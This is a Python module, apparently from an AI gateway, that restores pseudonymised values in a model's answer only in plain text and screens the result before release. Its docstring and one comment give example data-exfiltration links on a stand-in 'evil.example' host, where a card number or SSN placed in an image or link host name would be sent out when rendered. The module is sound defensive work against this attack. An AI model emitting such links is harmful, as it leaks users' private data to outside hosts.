"""What the caller receives of a model's answer: every released character screened in its final form.

The answer comes back with the request's placeholders (`<EMAIL_1>`). Restoring them after the
screen would release text no detector saw: `![x](https://<CARD_1>.evil.example/p.png)` would
become a card number in a host name that the caller's renderer fetches. So `release` restores
first, and only in plain text (never in a URL, a link or image destination, an HTML tag or
attribute), then screens the restored text with the spans where the caller's values were written,
and releases exactly what the verdict says: the text when allowed, the redacted text (itself
screened again inside `screen_text`) when redacted, nothing when blocked. A placeholder the model
put in markup stays a placeholder (and a URL carrying one is the exfiltration detector's to
judge); a value that, once written, became part of wider markup blocks (`value_in_markup`).

`restore_in_plain_text` is the one caller of `Pseudonymiser.restore`, and `release` and a screened
stream (screening/streaming.py) screen what it returns before releasing any of it; docs/screening.md
states the rule.
"""

from __future__ import annotations

from bisect import bisect_right
from typing import Any, Final, NamedTuple

from secure_ai_gateway.screening.errors import RenderBudgetExceeded
from secure_ai_gateway.screening.moderation import ModerationPort
from secure_ai_gateway.screening.policy import Policy
from secure_ai_gateway.screening.pseudonymise import Pseudonymiser, Restoration, Span
from secure_ai_gateway.screening.rendering.document import render
from secure_ai_gateway.screening.screen import screen_text
from secure_ai_gateway.screening.verdict import MAX_VERDICT_FINDINGS
from secure_ai_protocol.wire.verdict import Finding, Verdict

# A value written in plain text that became part of wider markup: `https://<SSN_1>.evil.example`
# parses as no URL, `https://712-45-6789.evil.example` does.
VALUE_IN_MARKUP: Final = "value_in_markup"


def markup_spans(text: str, policy: Policy) -> tuple[Span, ...]:
    """The spans of `text` a renderer reads as markup; all of it when it cannot be rendered in time."""
    try:
        # The same budget as the detector that renders the restored text (exfiltration).
        return render(text, budget_seconds=policy.timeout_for("exfiltration") / 1000).markup_spans
    except RenderBudgetExceeded:
        # Where plain text ends is unknown: treat it all as markup, so nothing counts as plain.
        return ((0, len(text)),)


def values_in_markup(restored: Restoration, policy: Policy) -> tuple[Span, ...]:
    """The written values that are part of a wider markup construct in the restored text.

    A construct within the value itself is the value (a renderer links a bare e-mail address to
    itself); one reaching past it carries the value somewhere else.
    """
    if not restored.spans:
        return ()
    markup = markup_spans(restored.text, policy)
    starts = [start for start, _ in markup]
    found: list[Span] = []
    for value_start, value_end in restored.spans:
        # Markup spans are sorted and disjoint: those meeting the value are consecutive.
        index = max(bisect_right(starts, value_start) - 1, 0)
        while index < len(markup) and markup[index][0] < value_end:
            start, end = markup[index]
            if start < value_end and value_start < end and (start < value_start or end > value_end):
                found.append((value_start, value_end))
                break
            index += 1
    return tuple(found)


def with_values_in_markup(verdict: Verdict, written: tuple[Span, ...]) -> Verdict:
    """`verdict`, blocked with an exfiltration-link finding per value that became part of markup.

    It blocks whatever the policy says of links: releasing it would send the caller's own data
    wherever the markup points.
    """
    if not written:
        return verdict
    findings = tuple(
        Finding(
            type="exfiltration_link",
            detector="exfiltration",
            span=span,
            confidence=1.0,
            label=VALUE_IN_MARKUP,
            action="block",
        )
        for span in written
    )
    return verdict.model_copy(
        update={
            "decision": "block",
            "findings": (verdict.findings + findings)[:MAX_VERDICT_FINDINGS],
            "findings_total": verdict.findings_total + len(findings),
            "content_digest": None,
            "redacted_text": None,
        }
    )


def restore_in_plain_text(answer: str, pseudonyms: Pseudonymiser, policy: Policy) -> Restoration:
    """`answer` with the caller's values written back where it is plain text, never in markup.

    Not to be released as it is: screen the result with its spans first (`release`, or a stream).
    """
    return pseudonyms.restore(answer, markup=markup_spans(answer, policy))


class Release(NamedTuple):
    """The verdict on the restored answer, and the text the caller may read (None when blocked)."""

    verdict: Verdict
    text: str | None


def release(
    answer: str,
    pseudonyms: Pseudonymiser,
    policy: Policy,
    *,
    canary: str | None,
    schema: dict[str, Any] | None,
    moderation: ModerationPort | None,
    digest_key: bytes | None,
) -> Release:
    """Restore `answer`'s placeholders in plain text, screen the result, and release what it allows."""
    restored = restore_in_plain_text(answer, pseudonyms, policy)
    screened = screen_text(
        restored.text,
        policy,
        canary=canary,
        schema=schema,
        moderation=moderation,
        restored=restored.spans,
        digest_key=digest_key,
    )
    verdict = with_values_in_markup(screened, values_in_markup(restored, policy))
    if verdict.decision == "allow":
        return Release(verdict, restored.text)
    if verdict.decision == "redact":
        return Release(verdict, verdict.redacted_text)
    return Release(verdict, None)
